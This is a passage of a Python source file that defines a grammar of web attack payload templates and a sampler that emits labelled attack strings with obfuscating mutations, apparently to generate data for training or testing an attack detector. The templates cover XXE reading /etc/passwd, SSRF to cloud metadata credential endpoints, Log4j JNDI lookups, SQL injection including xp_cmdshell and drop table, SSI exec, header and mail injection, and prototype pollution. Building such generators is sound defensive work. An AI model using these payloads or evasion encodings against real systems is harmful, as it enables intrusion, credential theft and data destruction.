    "xxe": ["<?xml version=\"1.0\"?><!DOCTYPE <<word>> [<!ENTITY <<ent>> SYSTEM \"<<xurl>>\">]><<<word>>>&<<ent>>;</<<word>>>", "<!DOCTYPE <<word>> [<!ENTITY % <<ent>> SYSTEM \"<<xurl>>\"> %<<ent>>;]>", "<!DOCTYPE <<word>> [<!ELEMENT <<word>> ANY ><!ENTITY <<ent>> SYSTEM '<<xurl>>' >]>", "<!DOCTYPE <<word>> SYSTEM \"<<url>>/<<word>>.dtd\">", "<!DOCTYPE <<word>> PUBLIC \"-//<<letter>>//<<letter>>\" \"<<xurl>>\">",
            "<!ENTITY <<ent>> \"<<word>>\"><!ENTITY <<ent>>1 \"&<<ent>>;&<<ent>>;&<<ent>>;&<<ent>>;\">", "<xi:include parse=\"text\" href=\"<<xurl>>\"/>", "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"<<xurl>>\" parse=\"text\"/></foo>", "<!DOCTYPE <<letter>> [<!ENTITY % <<ent>> \"<!ENTITY &#37; <<letter>> SYSTEM '<<xurl>>'>\">%<<ent>>;]>", "<?xml-stylesheet href=\"javascript:<<js>>\"?>", "<xsl:value-of select=\"document('<<xurl>>')\"/>", "<xsl:value-of select=\"system-property('xsl:vendor')\"/>", "' or '1'='1' or ''='", "']|//*|//*['", "' or count(//*)>0 or 'a'='b", "'] | //user/*[contains(*,'", "string-length(//<<word>>[1]/<<word>>)=<<small>>", "x' or name()='<<word>>' or 'x'='y",
            "' and substring(//<<word>>[1]/text(),1,1)='<<letter>>", "<![CDATA[<]]>script<![CDATA[>]]><<js>><![CDATA[<]]>/script<![CDATA[>]]>", "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol<<small>> \"&lol;&lol;&lol;\">]>"],
    "ent": ["xxe", "x", "<<letter>>", "<<word>>", "file", "ext", "dtd"],
    "xurl": ["file://<<file>>", "file:///etc/passwd", "<<url>>", "php://filter/convert.base64-encode/resource=<<pfile>>", "expect://id", "http://169.254.169.254/latest/meta-data/", "gopher://<<ip>>:<<int>>/_", "netdoc:///etc/passwd", "ftp://<<host>>/<<word>>", "jar:http://<<host>>!/<<word>>"],
    # ---- SSRF
    "ssrf": ["http://169.254.169.254/<<md>>", "http://127.0.0.1:<<port>>/<<adm>>?<<word>>", "http://localhost:<<port>>/<<adm>>", "http://[::1]:<<port>>/", "http://[::ffff:127.0.0.1]/", "http://0x7f000001/", "http://2130706433/", "http://0177.0.0.1/<<adm>>", "http://metadata.google.internal/computeMetadata/v1/<<word>>", "gopher://127.0.0.1:<<port>>/_<<gp>>", "dict://127.0.0.1:<<port>>/info", "file://<<file>>", "file:///etc/passwd", "ftp://127.0.0.1/", "ldap://<<host>>/%0astats%0aquit", "tftp://<<host>>:<<int>>/<<word>>", "http://127.1/<<adm>>", "http://<<host>>@127.0.0.1/", "http://127.0.0.1#<<host>>", "http://<<rnd>>.burpcollaborator.net", "http://<<rnd>>.oast.fun/<<word>>", "http://<<rnd>>.oastify.com", "//<<rnd>>.interact.sh/<<word>>", "http://localtest.me/<<adm>>", "http://127.0.0.1.nip.io/", "http://100.100.100.200/latest/meta-data/", "http://192.168.0.<<small>>:<<port>>/<<adm>>", "http://10.0.0.<<small>>/<<adm>>", "netdoc:///etc/hosts", "jar:http://127.0.0.1!/", "http://kubernetes.default.svc/api/v1/secrets", "http://169.254.170.2/v2/credentials/", "url:file:///etc/passwd", "http://0/", "http://0.0.0.0:<<port>>", "http://①②⑦.⓪.⓪.①/", "php://filter/resource=http://127.0.0.1/", "http://localhost/server-status", "unix:/var/run/docker.sock", "http://169.254.169.254.xip.io/", "http://instance-data/latest/user-data"],
    "md": ["latest/meta-data/", "latest/meta-data/iam/security-credentials/<<word>>", "latest/user-data", "metadata/v1.json", "metadata/instance?api-version=2021-02-01", "opc/v1/instance/", "computeMetadata/v1/instance/", "latest/api/token", "openstack/latest/meta_data.json"],
    "port": ["22", "25", "80", "443", "2375", "3306", "5432", "6379", "8080", "8500", "9200", "11211", "27017", "<<int>>"],
    "adm": ["admin", "server-status", "", "actuator/env", "manager/html", "_cat/indices", "v1/kv", "config", "console", "containers/json", "solr/admin"],
    "gp": ["%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "GET%20/<<word>>%20HTTP/1.1", "HELO%20localhost%0AMAIL%20FROM:", "INFO%0D%0AQUIT", "*1\r\n$8\r\nflushall"],
    # ---- headers and mail
    "crlf": ["<<word>><<nl>><<hdr>>", "<<nl>><<hdr>>", "/<<word>><<nl>><<hdr>>", "<<url>><<nl>><<hdr>>", "<<word>><<nl>><<hdr>><<nl>><<nl>><html><<word>></html>", "<<nl>><<nl>><script><<js>></script>", "<<word>><<nl>>HTTP/1.1 200 OK<<nl>><<hdr>>", "<<word>> HTTP/1.1<<nl>>Host: <<host>><<nl>><<hdr>>", "%E5%98%8D%E5%98%8A<<hdr>>", "<<nl>> <<hdr>>", "<<word>><<nl>>GET /<<word>> HTTP/1.1<<nl>>Host: <<host>>", "/%3f<<nl>><<hdr>>", "<<int>><<nl>><<hdr>>"],
    "nl": ["\r\n", "\n", "%0d%0a", "%0a", "%0D%0A", "%250d%250a", "\\r\\n", "%0d", "\r", "\u560d\u560a", "%u000d%u000a", "%c4%8d%c4%8a"],
    "hdr": ["Set-Cookie: <<word>>=<<word>>", "Set-Cookie:<<word>>=<<int>>", "Location: <<url>>", "X-<<word>>: <<word>>", "Content-Length: <<int>>", "Content-Type: text/html", "Refresh: 0;url=<<url>>", "Host: <<host>>", "X-XSS-Protection: 0", "Access-Control-Allow-Origin: *", "Transfer-Encoding: chunked", "X-Forwarded-For: 127.0.0.1", "Link: <<url>>", "crlf: <<word>>"],
    "mail": ["<<nl>><<smtp>><<nl>>", "<<nl>><<imap>><<nl>>", "<<nl>><<imap>><<nl>><<imap>><<nl>>", "<<nl>><<mh>><<nl>>", "\r\n<<smtp>>\r\n", "\n<<imap>>\n", "<<word>>@<<host>><<nl>><<mh>>", "<<nl>><<mh>>", "<<word>><<nl>><<mh>>", "<<word>>@<<host>><<nl>><<mh>><<nl>><<mh>>", "\"<<nl>><<imap>>", "<<imap>>", "<<word>>\"<<nl>><<imap>><<nl>>", "<<nl>>.<<nl>><<smtp>><<nl>><<smtp>>", "<<word>>@<<host>>>><<nl>><<smtp>>", "V100 <<imap>>", "<<nl>>RCPT TO: <<<word>>@<<host>>>", "<<word>><<nl>><<smtp>><<nl>>DATA<<nl>><<word>><<nl>>.", "<<word>>@<<host>>,<<word>>@<<host>>%0aBcc:<<word>>@<<host>>", "\" <<nl>><<imap>>", "<<word>>?subject=<<word>>&bcc=<<word>>@<<host>>", "\"><<nl>><<smtp>>", "<<nl>>V<<int>> <<imap>>"],
    "mh": ["Bcc: <<word>>@<<host>>", "Cc:<<word>>@<<host>>", "bcc:<<word>>@<<host>>", "To: <<word>>@<<host>>", "From: <<word>>@<<host>>", "Subject: <<word>>", "Reply-To: <<word>>@<<host>>", "Content-Type: multipart/mixed; boundary=<<rnd>>", "MIME-Version: 1.0", "X-Mailer: <<word>>"],
    "imap": ["CAPABILITY", "FETCH <<small>>:<<int>> BODY[HEADER]", "LIST \"\" \"*\"", "SELECT INBOX", "V<<small>> CAPABILITY", "A<<int>> LOGIN <<word>> <<word>>", "CREATE \"INBOX.<<word>>\"", "LOGOUT", "a1 fetch <<int>> body[text]", "DELETE INBOX", "SEARCH ALL", "AUTHENTICATE PLAIN", "STORE <<small>> +FLAGS \\Deleted"],
    "smtp": ["MAIL FROM: <<word>>@<<host>>", "MAIL FROM:<<<word>>@<<host>>>", "RCPT TO: <<word>>@<<host>>", "DATA", "QUIT", "HELO <<host>>", "EHLO <<word>>", "VRFY <<word>>", "RSET", "NOOP", "EXPN <<word>>"],
    # ---- log4j and friends
    "jndi": ["${jndi:<<jp>>://<<jh>>/<<letter>>}", "${jndi:<<jp>>://<<jh>>:<<int>>/<<word>>}", "${${lower:j}ndi:<<jp>>://<<jh>>/<<letter>>}", "${${::-j}${::-n}${::-d}${::-i}:<<jp>>://<<jh>>/<<letter>>}", "${${env:<<rnd>>:-j}ndi${env:<<rnd>>:-:}<<jp>>://<<jh>>}", "${jndi:<<jp>>://${env:<<word>>}.<<jh>>/<<letter>>}", "${${upper:j}${lower:n}di:<<jp>>://<<jh>>/<<letter>>}", "${j${k8s:k5:-ND}i:<<jp>>://<<jh>>/}", "${${date:'j'}${date:'n'}di:<<jp>>://<<jh>>}", "${env:<<word>>}", "${sys:java.version}", "$${jndi:<<jp>>://<<jh>>}", "<<word>> ${jndi:<<jp>>://<<jh>>/<<letter>>}", "${java:version}", "${script:javascript:<<js>>}", "${dns:<<jh>>}", "${url:UTF-8:<<url>>}", "${sd:type}", "${${lower:jnd}${lower:i}:<<jp>>://<<jh>>/<<word>>}"],
    "jp": ["ldap", "ldaps", "rmi", "dns", "iiop", "${lower:l}dap", "http", "corba", "l${::-d}ap"],
    "jh": ["<<host>>", "<<ip>>", "<<ip>>:<<int>>", "<<rnd>>.<<host>>", "127.0.0.1#<<host>>", "${hostName}.<<host>>", "<<rnd>>.interact.sh", "<<rnd>>.dnslog.cn"],
    # ---- prototype pollution, SSI, open redirect, GraphQL
    "proto": ["__proto__[<<word>>]=<<word>>", "__proto__.<<word>>", "constructor[prototype][<<word>>]=<<word>>", "constructor.prototype.<<word>>=<<word>>", "{\"__proto__\":{\"<<word>>\":true}}", "{\"constructor\":{\"prototype\":{\"<<word>>\":\"<<word>>\"}}}", "__proto__[shell]=/bin/sh", "__proto__", "constructor[prototype]", "__proto__[NODE_OPTIONS]=--inspect=<<host>>", "x[__proto__][<<word>>]", "a.__proto__.<<word>>=1", "Object.prototype.<<word>>=1"],
    "ssi": ["<!--#exec cmd=\"<<cmd>>\" -->", "<!--#include file=\"<<file>>\"-->", "<!--#include virtual=\"<<up>><<tgt>>\" -->", "<!--#echo var=\"<<ssiv>>\" -->", "<!--#exec cgi=\"/cgi-bin/<<word>>\"-->", "<!--#printenv -->", "<!--#config timefmt=\"%D\"-->", "<!--#set var=\"<<word>>\" value=\"<<word>>\"-->", "<esi:include src=\"<<url>>\"/>", "<esi:vars>$(HTTP_COOKIE)</esi:vars>", "\"><!--#exec cmd=\"<<cmd>>\"-->", "<!--#fsize file=\"<<word>>\"-->", "<!--#flastmod virtual=\"<<word>>\"-->", "<!--#EXEC cmd=\"<<wcmd>>\"-->", "<esi:debug/>", "<!--#include file='<<word>>.shtml'-->", "<!--esi <<word>>-->"],
    "ssiv": ["DATE_LOCAL", "DOCUMENT_NAME", "HTTP_USER_AGENT", "REMOTE_ADDR", "SERVER_NAME", "DOCUMENT_ROOT", "QUERY_STRING", "AUTH_TYPE", "HTTP_COOKIE", "<<word>>"],
    "url": ["http://<<host>>/<<word>>", "https://<<host>>/<<word>>.sh", "http://<<ip>>/<<letter>>", "http://<<ip>>:<<int>>/<<word>>", "//<<host>>/<<letter>>.js", "http://<<host>>/<<word>>.txt?", "https://<<rnd>>.<<host>>/"],
    "rfi": ["http://<<host>>/<<word>>.txt?", "http://<<ip>>/<<word>>.php?cmd=<<c>>", "https://<<host>>/shell.txt??", "ftp://<<word>>:<<word>>@<<host>>/<<word>>.php", "http://<<ip>>/<<word>>.txt%00", "\\\\<<ip>>\\<<word>>\\<<word>>.php", "//<<host>>/%2f..", "/\\<<host>>", "https:<<host>>", "///<<host>>/%2e%2e", "http://<<word>>@<<ip>>/"],
    # ---- SQL (corpora are rich here; these add the dialects and the short forms)
    "sqli": ["select <<word>> from <<scat>>", "select * from <<scat>>;", "<<sq>> union select <<scols>> from <<scat>><<send>>", "<<sq>> and 1 in (select <<word>> from <<scat>>)<<send>>", "select current_setting('<<ident>>');", "select session_user;", "select current_database();", "<<sq>> or <<ident>> like '%<<letter>>", "waitfor delay '00:00:0<<small>>'<<send>>", "<<sq>>; grant <<word>> to <<word>>;<<send>>", "<<sq>>; create table <<word>> (<<word>> varchar(<<int>>));<<send>>", "bulk insert <<word>> from 'c:\\<<word>>\\<<word>>.asp'", "<<int>>\nand\n1=1\n--", "<<int>>+union#<<word>>\nselect#<<word>>\n<<scols>>", "<<sq>><<sl>><<send>>", "<<sq>> union <<sall>>select <<scols>><<sfrom>><<send>>", "<<sq>>;<<stmt>><<send>>", "<<sq>> and <<sblind>><<send>>", "<<sq>> or <<sblind>><<send>>", "(select <<sfun>>)", "<<int>> or <<sblind>>", "<<int>>-if(<<sblind>>,sleep(<<small>>),0)", "<<sq>> order by <<small>><<send>>", "<<sq>> group by <<word>> having 1=1<<send>>", "<<sq>>||<<sfun>>||'", "'+(select <<sfun>>)+'", "<<stmt>>", "<<sq>> procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)<<send>>", "<<int>>' <<sl>> and '1'='1", "<<word>>'<<send>>", "<<sq>> into outfile '<<file>>'<<send>>", "<<int>> union select <<scols>><<sfrom>>", "<<sq>> order by <<small>>,<<small>>,<<small>><<send>>", "or <<sblind>>", " or <<int>>=<<int>>", "and <<sblind>>", "or <<sfun>>", "exec master..xp_cmdshell '<<wcmd>>'", "declare @<<letter>> varchar(<<int>>) select @<<letter>>=0x<<hex>> exec(@<<letter>>)", "select <<sfun>>;", "<<int>> union #\nselect <<scols>>", "<<sq>> limit 0,1 union select <<scols>><<send>>", "<<int>> rlike (select (case when (<<int>>=<<int>>) then <<int>> else 0x28 end))", "<<sq>> like '%<<letter>>%'<<send>>", "<<int>> in (select <<sfun>>)", "<<sq>> is not null<<send>>",
             "<<int>>;exec master..xp_cmdshell '<<wcmd>>'--", "'; if (<<sblind>>) waitfor delay '0:0:<<small>>'--", "<<sq>> and json_extract('{}','$.<<letter>>') is null<<send>>", "admin'<<send>>", "admin' or <<int>>=<<int>><<send>>", "<<sq>>=<<sq>>", "<<int>> procedure analyse()", "<<sq>> <>'<<word>>", "<<sq>>-(<<sblind>>)-'", "<<sq>> && <<sblind>><<send>>", "<<sq>> || <<sblind>><<send>>", "<<int>> div <<int>> or <<int>>", "sleep(<<small>>)", "<<int>>'xor(if(now()=sysdate(),sleep(<<small>>),0))or'", "<<sq>>^<<sblind>>^'", "%27 or <<int>>=<<int>>%23", "<<int>>/**/or/**/<<int>>=<<int>>"],
    "scat": ["sysibm.tables", "sysibm.systables", "sysibm.syscolumns", "syscat.<<word>>auth", "syscat.schemata", "master..sysservers", "master..sysdatabases", "pg_group", "pg_shadow", "pg_user", "sysusers", "sysobjects where xtype='u'", "dba_role_privs", "all_users", "v$version", "mysql.db", "information_schema.schemata", "user_tab_columns", "sys.user$", "sysibm.sysdummy1"],
    "sq": ["'", "\"", "')", "'))", "\")", "<<int>>", "<<int>>'", "<<word>>'", "-<<int>>", "<<int>>)", "<<int>>')", "`", "<<word>>\"", "%27", "\\'", "1", "''", "", ""],
    "sl": [" or <<int>>=<<int>>", " or '<<word>>'='<<word>>'", " or 'a'='a", " and <<int>>=<<int>>", " or true", " or 1", " and 1=0", " or <<int>><<int>>", "||1", " or not false", " or 1 like 1", " or <<int>> between <<int>> and <<int>>", " or exists(select 1)", "or''='", " oR '<<letter>>'<'<<letter>>", "/**/or/**/1=1", " or 1 in (1)", " and '<<letter>>'='<<letter>>", " or x=x", "=0"],
    "send": ["", "--", "-- ", "#", "-- -", "/*", ";--", ";#", "--+", ";%00", " -- <<word>>", "%23", " limit 1", "))--", " and 'a'='a", "`", ";"],
    "sall": ["", "all ", "distinct ", "all\n", "/**/"],
    "scols": ["1,2,3", "null,null", "<<sfun>>,<<small>>", "1,<<sfun>>,3,4", "null,<<sfun>>,null--", "*", "<<word>>,<<word>>", "1,group_concat(<<word>>,0x3a,<<word>>),3", "concat(<<word>>,char(58),<<word>>)", "@@version,2", "0x<<hex>>,2", "table_name,column_name", "(1),(2),(3)", "'<<word>>','<<word>>'"],
    "sfrom": ["", " from <<ident>>", " from information_schema.tables", " from dual", " from users where <<sblind>>", " from information_schema.columns where table_name='<<ident>>'", " from sqlite_master", " from pg_catalog.pg_tables", " from mysql.user limit 1", " from all_tables", " from(select 1)<<letter>>"],
    "sfun": ["version()", "user()", "database()", "@@version", "sleep(<<small>>)", "pg_sleep(<<small>>)", "benchmark(<<int>>,md5(<<int>>))", "load_file('<<file>>')", "extractvalue(1,concat(0x7e,version()))", "updatexml(1,concat(0x7e,(select user())),1)", "concat(user(),0x3a,database())", "char(<<int>>,<<int>>)", "utl_inaddr.get_host_address('<<host>>')", "sqlite_version()", "current_user", "substr(<<word>>,<<small>>,1)", "count(*)", "dbms_pipe.receive_message('<<letter>>',<<small>>)", "ascii(substring((select <<word>>),1,1))", "xmltype('<<word>>')", "randomblob(<<int>>)", "hex(<<word>>)", "json_keys((select convert((select version()) using utf8)))", "lower('<<word>>')", "if(<<sblind>>,1,0)"],
    "sblind": ["<<int>>=<<int>>", "ascii(substr((select <<ident>> from <<ident>> limit 1),<<small>>,1))><<int>>", "length(database())=<<small>>", "(select count(*) from <<ident>>)><<int>>", "<<sfun>>", "substring(@@version,1,1)=<<small>>", "exists(select * from <<ident>>)", "sleep(<<small>>)=0", "'<<letter>>'='<<letter>>'", "(select <<int>> from (select(sleep(<<small>>)))<<letter>>)", "user() like '<<letter>>%'", "mid(user(),1,1)='<<letter>>'", "<<int>>=(select <<int>> from pg_sleep(<<small>>))", "1=convert(int,(select @@version))", "if(<<int>>=<<int>>,1,0)", "<<int>> in (<<int>>)", "not 1=2", "isnull(1/0)", "1 is not null"],
    "stmt": ["drop table <<ident>>", "delete from <<ident>>", "insert into <<ident>> values (<<int>>,'<<word>>')", "update <<ident>> set <<word>>='<<word>>'", "shutdown", "exec xp_cmdshell('<<wcmd>>')", "select <<sfun>>", "waitfor delay '0:0:<<small>>'", "select pg_sleep(<<small>>)", "create user <<word>> identified by '<<word>>'", "copy <<ident>> from program '<<cmd>>'", "declare @<<letter>> varchar(<<int>>);set @<<letter>>=0x<<hex>>;exec(@<<letter>>)", "select * from <<ident>> where <<sblind>>", "truncate <<ident>>", "load data infile '<<file>>' into table <<ident>>", "alter table <<ident>> drop column <<word>>", "select <<scols>><<sfrom>>", "grant all on *.* to <<word>>", "attach database '<<word>>.php' as <<letter>>", "create function sys_eval returns string soname '<<word>>.so'"],
    # ---- scanners' marks in a User-Agent or a parameter
    "probe": ["<<word>>@<<rnd>>.interact.sh", "root@<<rnd>>.oast.live", "<<rnd>>.burpcollaborator.net", "Mozilla/5.0 (<<word>>) <<jndi>>", "Mozilla/5.0 <<xtag>>", "Mozilla/5.0 (X11; Linux x86_64) <<shell>>", "() { ignored; }; echo; /bin/bash -c '<<c>>'", "<<sq>><<sl>><<send>>", "curl/7.1 <<ssti>>", "Mozilla/5.0 '<<sl>>--", "User-Agent: <<xtag>>", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) root@<<rnd>>.interact.sh", "sqlmap/1.<<small>>#stable (http://sqlmap.org)", "Nikto/2.<<small>>", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "<<rnd>>.oast.pro", "http://<<rnd>>.dnslog.cn/<<word>>"],
}

GRAMMAR = Grammar(_RULES)

# class -> how many of a round of draws
SHARES: dict[str, int] = {
    "ssti": 10, "code": 12, "xss": 22, "shell": 16, "lfi": 9, "nosql": 8, "ldap": 6, "xxe": 6, "ssrf": 6,
    "crlf": 5, "mail": 7, "jndi": 4, "proto": 3, "ssi": 5, "rfi": 3, "sqli": 24, "probe": 2, "shock": 2,
}


def _random_case(rng: random.Random, text: str) -> str:
    return "".join(c.upper() if c.isalpha() and rng.random() < 0.5 else c for c in text)


def _comment_blanks(rng: random.Random, text: str) -> str:
    blank = rng.choice(["/**/", "\t", "+", "%0a", "%09", "\n", "  ", "/*<x>*/", "%a0", "%0b"])
    return text.replace(" ", blank)


def _escape_some(rng: random.Random, text: str) -> str:
    form = rng.choice(["\\u{:04x}", "\\x{:02x}", "&#{};", "&#x{:x};", "%u{:04x}", "%{:02x}"])
    return "".join(form.format(ord(c)) if ord(c) < 128 and rng.random() < 0.3 else c for c in text)


def _double(rng: random.Random, text: str) -> str:
    return quote(text, safe=rng.choice(["", "/", "()"]))


def _base64(rng: random.Random, text: str) -> str:
    return base64.b64encode(text.encode("utf-8", "surrogatepass")).decode()


def _twice(rng: random.Random, text: str) -> str:
    return quote(quote(text, safe=""), safe="")


_MUTATIONS: list[tuple[float, Callable[[random.Random, str], str]]] = [
    (0.08, _random_case), (0.05, _comment_blanks), (0.05, _escape_some), (0.06, _double), (0.02, _twice),
    (0.03, _base64),
]


def mutate(rng: random.Random, text: str) -> str:
    """One obfuscation now and then: case, blanks, escapes, a further encoding."""
    draw = rng.random()
    for share, change in _MUTATIONS:
        draw -= share
        if draw < 0:
            return change(rng, text)
    return text


def attack_texts(rng: random.Random, n: int) -> list[tuple[str, str]]:
    """n distinct (class, text)."""
    names = list(SHARES)
    weights = list(SHARES.values())
    out: dict[str, str] = {}
    for _ in range(20 * n):
        if len(out) >= n:
            break
        name = rng.choices(names, weights)[0]
        text = mutate(rng, GRAMMAR.sample(rng, name))
        if len(text) > 1:
            out.setdefault(text, name)
    return [(name, text) for text, name in out.items()]
